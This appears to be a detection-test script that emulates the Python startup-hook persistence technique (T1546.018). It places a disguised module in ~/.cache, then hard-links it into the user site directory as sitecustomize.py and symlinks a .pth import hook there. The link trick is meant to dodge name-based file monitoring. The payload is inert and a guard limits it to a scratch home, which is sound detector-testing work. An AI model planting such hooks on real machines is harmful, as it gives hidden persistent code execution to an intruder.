# technique: T1546.018
"""Event Triggered Execution: Python Startup Hooks (T1546.018),
sitecustomize.py created as a hard link in the user site and an import
hook .pth created as a symbolic link.

A payload module is written under ~/.cache with an innocent name; then
os.link() gives it the name <user site>/sitecustomize.py and os.symlink()
makes <user site>/00-init.pth point at a file of `import` lines. The
sitecustomize/.pth names exist only as link destinations.

A good detector raises a high alert: a start-up hook file (sitecustomize.py,
*.pth) is created in a site directory, whatever call makes the name.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import site

home = os.path.expanduser("~")
stash = os.path.join(home, ".cache", "pip", "http")
os.makedirs(stash, exist_ok=True)
payload = os.path.join(stash, "cache-index.py")
with open(payload, "w") as f:
    f.write("import os\n_ = os.getpid()\n")
pth_src = os.path.join(stash, "cache-index.txt")
with open(pth_src, "w") as f:
    f.write("import os\n")
user_site = site.getusersitepackages()
os.makedirs(user_site, exist_ok=True)
os.link(payload, os.path.join(user_site, "sitecustomize.py"))
os.symlink(pth_src, os.path.join(user_site, "00-init.pth"))
